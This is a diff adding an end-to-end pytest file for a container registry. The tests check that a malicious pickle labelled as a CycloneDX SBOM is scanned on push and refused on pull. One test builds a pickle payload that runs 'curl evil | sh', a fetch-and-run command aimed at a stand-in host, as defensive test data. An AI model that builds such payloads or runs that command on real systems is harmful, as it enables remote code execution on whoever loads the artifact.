@@ -1,0 +1,94 @@
+"""The pull gate and what a manifest claims to be: SBOMs and signatures a client pushes are
+pulled like anything else, so they are scanned like anything else. A malicious pickle
+labelled as a CycloneDX SBOM is scanned on push and refused by a ``--block-unsafe-models``
+policy; it was not scanned at all while every CycloneDX artifactType was skipped. Only
+the registry's own SBOM skips the scan on push (ADR 0016)."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+
+from support import models, osv
+from support.aws import aws_client
+from support.images import OCI_MANIFEST
+from support.scans import finished_scan_of, put_blob
+from support.server import RunningServer, start_server
+
+pytestmark = pytest.mark.e2e
+
+CYCLONEDX = "application/vnd.cyclonedx+json"
+SIMPLESIGNING = "application/vnd.dev.cosign.simplesigning.v1+json"
+EMPTY_JSON = b"{}"
+
+
+@pytest.fixture
+def server(tmp_path: Path) -> Iterator[RunningServer]:
+    running = start_server(
+        tmp_path / "data", env={"STRONGROOM_JOB_POLL_SECONDS": "0.1"}, args=["--workers", "1"]
+    )
+    try:
+        yield running
+    finally:
+        running.stop()
+
+
+@pytest.fixture
+def ecr(server: RunningServer) -> Any:
+    server.cli("vulndb", "import", str(osv.RECORDS_DIR))
+    return aws_client(server, "ecr")
+
+
+def put_manifest(http: httpx.Client, name: str, manifest: dict[str, Any], tag: str | None = None) -> str:
+    body = json.dumps(manifest).encode()
+    digest = "sha256:" + hashlib.sha256(body).hexdigest()
+    put = http.put(
+        f"/v2/{name}/manifests/{tag or digest}", content=body, headers={"Content-Type": OCI_MANIFEST}
+    )
+    assert put.status_code == 201, put.text
+    return digest
+
+
+def get_manifest(http: httpx.Client, name: str, digest: str) -> httpx.Response:
+    return http.get(f"/v2/{name}/manifests/{digest}", headers={"Accept": OCI_MANIFEST})
+
+
+def test_a_pickle_labelled_as_an_sbom_is_scanned_and_refused(server: RunningServer, ecr: Any) -> None:
+    ecr.create_repository(repositoryName="disguised/app", imageScanningConfiguration={"scanOnPush": True})
+    server.cli("repo", "set-pull-policy", "disguised/app", "--block-unsafe-models")
+    payload = models.call("posix", "system", "curl evil | sh")
+    with server.client() as http:
+        config = {
+            "mediaType": "application/vnd.oci.empty.v1+json",
+            **put_blob(http, "disguised/app", EMPTY_JSON),
+        }
+        layer = {
+            "mediaType": CYCLONEDX,
+            **put_blob(http, "disguised/app", payload),
+            "annotations": {"org.opencontainers.image.title": "sbom.cyclonedx.json"},
+        }
+        manifest = {
+            "schemaVersion": 2,
+            "mediaType": OCI_MANIFEST,
+            "artifactType": CYCLONEDX,
+            "config": config,
+            "layers": [layer],
+        }
+        digest = put_manifest(http, "disguised/app", manifest, tag="v1")
+
+        scanned = finished_scan_of(ecr, "disguised/app", {"imageDigest": digest})
+        assert scanned["imageScanStatus"]["status"] == "COMPLETE"
+        names = {finding["name"] for finding in scanned["imageScanFindings"]["findings"]}
+        assert "pickle-code-execution" in names
+
+        refused = get_manifest(http, "disguised/app", digest)
+        assert refused.status_code == 403, refused.text
+        assert refused.json()["errors"][0]["code"] == "DENIED"
+        assert "pickle-code-execution" in refused.json()["errors"][0]["message"]
+        assert http.get(f"/v2/disguised/app/blobs/{digest}").status_code == 403
